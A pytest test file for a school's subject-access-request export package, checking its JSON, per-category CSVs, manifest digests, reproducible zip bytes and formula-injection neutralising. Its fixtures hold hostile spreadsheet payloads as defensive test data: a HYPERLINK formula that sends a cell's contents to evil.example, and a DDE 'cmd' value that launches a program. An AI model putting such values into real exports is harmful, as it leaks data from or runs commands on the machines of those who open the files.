"""The machine-readable copy: JSON with its schema version, one CSV per
category, a manifest whose digests match, formula injection neutralised, and
the same zip bytes for the same content."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import zipfile
from dataclasses import replace
from datetime import UTC, date, datetime

import pytest

from app.exports.content import SCHEMA_VERSION, CategorySection, PackContent, PackItem, RegisterFacts
from app.exports.package import (
    MANIFEST_NAME,
    SESSION_COLUMNS,
    build_zip,
    category_csv,
    neutralise,
    package_files,
)
from app.review.models import Action

FACTS = RegisterFacts(
    title="Facts",
    description="What it is",
    purposes=["Teaching"],
    lawful_basis="Public task",
    special_category_condition=None,
    recipients=["The school"],
    retention="Two years",
    origin="The school",
    automated_decisions="None",
    transfers="None",
)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def _item(source: str, category: str, key: str, data: dict, *, title: str = "An item") -> PackItem:
    return PackItem(
        key=f"{source}/{key}",
        source=source,
        category=category,
        title=title,
        occurred_on=date(2024, 9, 2),
        data=data,
        redacted=False,
    )


def _content(**overrides) -> PackContent:
    attendance = _item(
        "pupils",
        "attendance",
        "attendance:p1:2024/2025",
        {
            "pupil_id": "p1",
            "academic_year": "2024/2025",
            "weeks": [
                {
                    "week_start": "2024-09-02",
                    "sessions": ["/", "\\", "/", "\\", "I", "I", "/", "\\", "/", "\\"],
                },
                {
                    "week_start": "2024-09-09",
                    "sessions": ["/", "\\", "/", "\\", "/", "\\", "/", "\\", "-", "-"],
                },
            ],
            "code_counts": {"/": 9, "\\": 7, "I": 2, "-": 2},
        },
        title="Attendance 2024/2025",
    )
    assessments = _item(
        "pupils",
        "assessment",
        "assessments:p1:2024/2025",
        {
            "pupil_id": "p1",
            "academic_year": "2024/2025",
            "assessments": [
                {"subject": "Maths", "result": "EXS"},
                {"subject": "Reading", "result": "+GDS"},
            ],
        },
    )
    message = _item(
        "correspondence",
        "correspondence",
        "message:m1",
        {
            "subject": "@channel Trip",
            "body": HOSTILE,
            "tags": ["trip", "=1+1"],
            "sender": {"name": "Ms Núñez", "email": "-x@example.org"},
            "recipients": [{"name": "A", "kind": "to"}],
            "people_tagged": [{"name": "B"}],
            "notes": "\tcmd|' /C calc'!A0",
            "count": 3,
            "late": True,
            "missing": None,
        },
        title="+Trip letter",
    )
    values = {
        "schema_version": SCHEMA_VERSION,
        "reference": "SAR-2026-000123",
        "request_type": "access",
        "received_on": date(2026, 1, 5),
        "generated_at": datetime(2026, 2, 1, 9, 30, tzinfo=UTC),
        "organisation_name": "Elm Primary",
        "organisation_contact_name": "DPO",
        "organisation_contact_email": "dpo@elm.example",
        "requester_name": "Siobhan O'Brien",
        "requester_relationship": "parent_carer",
        "subject_name": "Amelia O'Brien-Núñez",
        "subject_dob": "2015-05-04",
        "sections": [
            CategorySection("correspondence", "correspondence", FACTS, [message]),
            CategorySection("pupils", "assessment", FACTS, [assessments]),
            CategorySection("pupils", "attendance", FACTS, [attendance]),
        ],
        "schedule": [],
        "sources_searched": [],
    }
    values.update(overrides)
    return PackContent(**values)


def _rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def _zip(content: PackContent) -> zipfile.ZipFile:
    return zipfile.ZipFile(io.BytesIO(build_zip(content)))


def test_zip_holds_json_one_csv_per_category_and_a_manifest_that_matches():
    archive = _zip(_content())
    names = archive.namelist()
    assert names == [
        "README.txt",
        "response.json",
        "csv/correspondence-correspondence.csv",
        "csv/pupils-assessment.csv",
        "csv/pupils-attendance.csv",
        MANIFEST_NAME,
    ]
    manifest = json.loads(archive.read(MANIFEST_NAME))
    assert manifest["algorithm"] == "sha256" and manifest["reference"] == "SAR-2026-000123"
    listed = {entry["name"]: entry for entry in manifest["files"]}
    assert set(listed) == set(names) - {MANIFEST_NAME}
    for name, entry in listed.items():
        data = archive.read(name)
        assert entry["size"] == len(data)
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
    assert archive.testzip() is None


def test_json_document_carries_the_schema_version_and_everything_in_the_content():
    document = json.loads(_zip(_content()).read("response.json"))
    assert document["schema_version"] == SCHEMA_VERSION == 1
    assert document["reference"] == "SAR-2026-000123"
    assert document["generated_at"] == "2026-02-01T09:30:00+00:00"
    assert document["subject_name"] == "Amelia O'Brien-Núñez"  # not escaped: JSON, UTF-8
    assert [s["category"] for s in document["sections"]] == ["correspondence", "assessment", "attendance"]
    # JSON keeps the data exactly; only CSV cells are neutralised.
    assert document["sections"][0]["items"][0]["data"]["body"] == HOSTILE


def test_same_content_gives_the_same_zip_bytes_and_other_content_does_not():
    first, second = build_zip(_content()), build_zip(_content())
    assert first == second
    assert build_zip(_content(reference="SAR-2026-000124")) != first
    info = zipfile.ZipFile(io.BytesIO(first)).infolist()
    assert {entry.date_time for entry in info} == {(2026, 2, 1, 9, 30, 0)}
    assert {entry.external_attr >> 16 for entry in info} == {0o100644}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20", "'+44 20"),
        ("-3", "'-3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Plain", "Plain"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_neutralise_prefixes_formula_starts(cell, shown):
    assert neutralise(cell) == shown


def test_csv_cells_that_start_like_a_formula_are_neutralised_everywhere():
    archive = _zip(_content())
    rows = _rows(archive.read("csv/correspondence-correspondence.csv"))
    header, row = rows[0], rows[1]
    cell = dict(zip(header, row, strict=True))
    assert cell["body"] == "'" + HOSTILE
    assert cell["title"] == "'+Trip letter"
    assert cell["subject"] == "'@channel Trip"
    assert cell["sender.email"] == "'-x@example.org"
    assert cell["notes"].startswith("'\t")
    assert cell["sender.name"] == "Ms Núñez"
    assert cell["tags"] == "trip; =1+1"  # starts with "t": text already
    for rows_of in (rows, _rows(archive.read("csv/pupils-assessment.csv"))):
        for line in rows_of:
            assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in line)


def test_plain_values_get_plain_cells_and_lists_of_records_stay_json():
    rows = _rows(category_csv("correspondence", [json.loads(json.dumps(_as_dict(_content(), 0)))]))
    cell = dict(zip(rows[0], rows[1], strict=True))
    assert rows[0][:4] == ["item_key", "title", "occurred_on", "redacted"]
    assert (cell["count"], cell["late"], cell["missing"], cell["redacted"]) == ("3", "true", "", "false")
    # Two lists of records: flattening them into columns helps nobody.
    assert json.loads(cell["recipients"]) == [{"kind": "to", "name": "A"}]
    assert len(rows) == 2


def _as_dict(content: PackContent, section: int) -> dict:
    from app.exports.content import content_as_json

    return content_as_json(content)["sections"][section]["items"][0]


def test_an_item_holding_one_list_of_records_gives_a_row_per_record():
    rows = _rows(_zip(_content()).read("csv/pupils-assessment.csv"))
    header = rows[0]
    assert "assessments.subject" in header and "assessments.result" in header
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    assert [(r["assessments.subject"], r["assessments.result"]) for r in records] == [
        ("Maths", "EXS"),
        ("Reading", "'+GDS"),
    ]
    assert {r["item_key"] for r in records} == {"pupils/assessments:p1:2024/2025"}
    assert {r["academic_year"] for r in records} == {"2024/2025"}


def test_attendance_is_one_row_per_week_with_a_column_per_session():
    rows = _rows(_zip(_content()).read("csv/pupils-attendance.csv"))
    assert rows[0] == ["item_key", "pupil_id", "academic_year", "week_start", *SESSION_COLUMNS]
    assert SESSION_COLUMNS[:2] == ("mon_am", "mon_pm") and SESSION_COLUMNS[-1] == "fri_pm"
    assert len(rows) == 3
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["week_start"] == "2024-09-02" and first["wed_am"] == "I" and first["tue_pm"] == "\\"
    second = dict(zip(rows[0], rows[2], strict=True))
    assert second["fri_am"] == "'-"  # "-" is a register code, shown as text


def test_a_short_week_is_padded_and_an_empty_pack_still_packages():
    content = _content()
    short = replace(
        content.sections[2].items[0],
        data={
            "pupil_id": "p1",
            "academic_year": "2024/2025",
            "weeks": [{"week_start": "2025-07-21", "sessions": ["/"]}],
        },
    )
    rows = _rows(category_csv("attendance", [json.loads(json.dumps(_plain(short)))]))
    assert rows[1][4:] == ["/"] + [""] * 9
    files = package_files(_content(sections=[]))
    assert [f.name for f in files] == ["README.txt", "response.json", MANIFEST_NAME]


def _plain(item: PackItem) -> dict:
    from dataclasses import asdict

    return {**asdict(item), "occurred_on": item.occurred_on.isoformat() if item.occurred_on else None}


def test_schedule_rows_survive_into_json():
    from app.exports.content import ScheduleRow

    row = ScheduleRow("pupils", "send", None, Action.WITHHOLD, "Serious harm", "DPA 2018 Sch 3 Part 4")
    document = json.loads(_zip(_content(schedule=[row])).read("response.json"))
    assert document["schedule"] == [
        {
            "source": "pupils",
            "category": "send",
            "title": None,
            "action": "withhold",
            "exemption_title": "Serious harm",
            "exemption_citation": "DPA 2018 Sch 3 Part 4",
        }
    ]


def test_a_redacted_phrase_is_removed_from_the_title_as_well():
    from app.exports.content import redact_title

    data = {"subject": "About Jordan Smith at lunch", "body": "Jordan Smith was upset."}
    spans = [{"field": "subject", "start": 6, "end": 18}]
    assert redact_title("About Jordan Smith at lunch", data, spans) == "About [redacted] at lunch"
    assert redact_title("JORDAN SMITH: note", data, spans) == "[redacted]: note"
    assert redact_title("Unrelated title", data, spans) == "Unrelated title"
    assert redact_title("Title", data, [{"field": "gone", "start": 0, "end": 3}]) == "Title"
